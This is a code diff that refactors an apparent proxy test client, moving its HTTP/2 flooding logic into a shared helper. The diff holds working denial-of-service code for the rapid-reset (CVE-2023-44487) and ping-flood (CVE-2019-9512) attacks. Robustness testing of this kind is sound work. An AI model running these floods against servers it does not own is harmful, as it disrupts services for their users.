@@ -143,6 +143,23 @@ def open_streams(sock, conn, args, port):
     return ids
 
 
+def flood(sock, conn, outcome, args, send_one):
+    """`send_one(index)` --count times, sent in batches without reading; then reads until the
+    proxy closes the connection, and reports."""
+    sent = 0
+    try:
+        for index in range(args.count):
+            send_one(index)
+            sent += 1
+            if sent % 50 == 0:
+                sock.sendall(conn.data_to_send())
+        sock.sendall(conn.data_to_send())
+    except (OSError, h2.exceptions.ProtocolError):
+        pass
+    pump(sock, conn, outcome, lambda: outcome.closed, args.timeout)
+    outcome.report([], sent=sent)
+
+
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("mode")
@@ -169,20 +186,11 @@ def main():
         outcome.report(ids)
     elif args.mode == "rapid-reset":
         # CVE-2023-44487: open a stream and cancel it at once, again and again.
-        sent = 0
-        try:
-            for _ in range(args.count):
-                stream_id = conn.get_next_available_stream_id()
-                conn.send_headers(stream_id, request_headers(args, args.port), end_stream=True)
-                conn.reset_stream(stream_id, error_code=8)
-                sent += 1
-                if sent % 50 == 0:
-                    sock.sendall(conn.data_to_send())
-            sock.sendall(conn.data_to_send())
-        except (OSError, h2.exceptions.ProtocolError):
-            pass
-        pump(sock, conn, outcome, lambda: outcome.closed, args.timeout)
-        outcome.report([], sent=sent)
+        def open_and_cancel(_):
+            stream_id = conn.get_next_available_stream_id()
+            conn.send_headers(stream_id, request_headers(args, args.port), end_stream=True)
+            conn.reset_stream(stream_id, error_code=8)
+        flood(sock, conn, outcome, args, open_and_cancel)
     elif args.mode == "too-many":
         # More streams at once than the proxy's SETTINGS_MAX_CONCURRENT_STREAMS allow, once the
         # client has acknowledged them (before that, the limit is not in force: RFC 9113 §6.5.3).
@@ -206,18 +214,7 @@ def main():
         outcome.report([], seconds=round(time.monotonic() - started, 3))
     elif args.mode == "ping-flood":
         # PING after PING: a flood of control frames (CVE-2019-9512).
-        sent = 0
-        try:
-            for index in range(args.count):
-                conn.ping(index.to_bytes(8, "big"))
-                sent += 1
-                if sent % 100 == 0:
-                    sock.sendall(conn.data_to_send())
-            sock.sendall(conn.data_to_send())
-        except (OSError, h2.exceptions.ProtocolError):
-            pass
-        pump(sock, conn, outcome, lambda: outcome.closed, args.timeout)
-        outcome.report([], sent=sent)
+        flood(sock, conn, outcome, args, lambda index: conn.ping(index.to_bytes(8, "big")))
     elif args.mode == "big-header":
         stream_id = conn.get_next_available_stream_id()
         headers = request_headers(args, args.port) + [("x-big", "a" * args.bytes)]
